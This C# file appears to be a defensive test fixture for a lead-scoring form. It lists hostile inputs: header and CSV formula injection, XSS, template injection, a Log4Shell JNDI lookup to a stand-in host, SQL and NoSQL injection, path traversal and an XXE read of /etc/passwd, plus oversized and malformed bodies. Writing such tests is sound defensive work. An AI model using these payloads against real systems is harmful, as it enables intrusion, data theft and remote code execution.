namespace LeadScoring.Tests.Hostile;

/// <summary>
/// What bots put into fields: to begin a header, a cell's formula, markup, a template's tag, or a look-alike.
/// </summary>
internal static class Payloads
{
    public static readonly string[] Texts =
    [
        "x\r\nBcc: all@example.jp\r\nX-Pwned: 1",
        "x%0d%0aX-Pwned:%201",
        "\nX-Pwned: 1",
        "=HYPERLINK(\"https://pwned.example\",\"win\")",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "<script>pwned()</script>",
        "\"><img src=x onerror=pwned()>",
        "' autofocus onfocus='pwned()",
        "</style><script>pwned()</script>",
        "javascript:pwned()",
        "{{pwned}}{{{pwned}}}{{#each this}}{{this}}{{/each}}",
        "{{> layout-en}}{{lookup this 'email'}}",
        "${jndi:ldap://pwned.example/a}",
        "'; DROP TABLE leads; --",
        "' or PartitionKey ne '",
        "../../../../etc/passwd",
        "Win a car at https://pwned.example now",
        "\u202Egpj.exe\u2066\u2069",
        "\u200B\u200Dｐａｙｐаl\u00AD",
        "Z\u0351\u036B\u0343a\u0365l\u0350\u0337g\u0321o",
        "\0",
        "\u001b[31mred",
        "👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦",
        new string('A', 5000),
        "true",
        "null",
        "1e999",
        "-0",
    ];

    public static readonly string[] Addresses =
    [
        "bot@example.jp\r\nBcc: all@example.jp",
        "\"bot pwned\"@example.jp",
        "bot@[127.0.0.1]",
        "bot@127.0.0.1",
        "bot@localhost",
        "bot@printer.local",
        "bot@example.invalid",
        "bot@exa\u200Bmple.jp",
        "bot@mailinator.com",
        "bot@a.b.yopmail.com",
        "<bot@example.jp>",
        "a@b@example.jp",
        "bot@example.jp,victim@example.jp",
        "bоt@example.jp",
        "bot@e\u0301xample.jp",
        "bot@ﾃｽﾄ.jp",
        "@example.jp",
        "bot@",
        "bot@" + new string('a', 300) + ".jp",
        "=cmd|' /C calc'!A0@example.jp\t",
    ];

    /// <summary>Bodies that are no entry, with their types.</summary>
    public static readonly (string Type, string Body)[] Bodies =
    [
        ("application/json", "{"),
        ("application/json", ""),
        ("application/json", "null"),
        ("application/json", "[]"),
        ("application/json", "\"email\""),
        ("application/json", "{\"email\":\"a@example.jp\",\"email\":\"b@example.jp\"}"),
        ("application/json", "{\"email\":{\"$ne\":null}}"),
        ("application/json", "{\"email\":[\"a@example.jp\"]}"),
        ("application/json", "{\"email\":\"a@example.jp\",\"name\":\"\\ud83d\"}"),
        ("application/json", "{\"email\":\"a@example.jp\",\"optIn\":\"yes\"}"),
        ("application/json", "{\"email\":\"a@example.jp\",\"attributes\":{\"" + new string('k', 100) + "\":1}}"),
        ("application/json", "{\"email\":\"a@example.jp\",\"attributes\":{\"budget\":" + new string('9', 3000) + "}}"),
        ("application/json", "{\"email\":\"a@example.jp\",\"attributes\":" + Deep("{\"a\":", "1", "}", 400) + "}"),
        ("application/json", Deep("[", "", "]", 20_000)),
        ("application/json", Deep("{\"a\":", "1", "}", 8_000)),
        ("application/json", "{\"email\":\"a@example.jp\",\"attributes\":{"
            + string.Join(',', Enumerable.Range(0, 2000).Select(n => $"\"a{n}\":\"x\"")) + "}}"),
        ("application/x-www-form-urlencoded", "email=a%40example.jp&email=b%40example.jp"),
        ("application/x-www-form-urlencoded", "email=a@example.jp&name=x&name=y&name=z"),
        ("application/x-www-form-urlencoded", "email=a@example.jp&attributes=x&attributes.budget=1&attributes=y"),
        ("application/x-www-form-urlencoded", "%ff%fe=%00&email=%"),
        ("application/x-www-form-urlencoded", string.Concat(Enumerable.Range(0, 1500).Select(n => $"a{n}=x&"))),
        ("application/x-www-form-urlencoded", new string('&', 30_000)),
        ("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"email\"\r\n\r\na@example"),
        ("multipart/form-data; boundary=x", "--x\r\n" + new string('h', 20_000)),
        ("multipart/form-data", "email=a@example.jp"),
        ("multipart/form-data; boundary=" + new string('b', 300), "--"),
        ("application/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
        ("text/html", "<script>pwned()</script>"),
        ("application/json; charset=utf-16", "\uFEFF{}"),
    ];

    /// <summary>Whatever got through as markup, header or formula shows by one of these.</summary>
    public static readonly string[] MarksInHtml =
        ["<script>pwned", "<img src=x", "onerror=pwned()>", "' autofocus onfocus='", "https://pwned.example"];

    private static string Deep(string open, string inner, string close, int depth) =>
        string.Concat(Enumerable.Repeat(open, depth)) + inner + string.Concat(Enumerable.Repeat(close, depth));
}
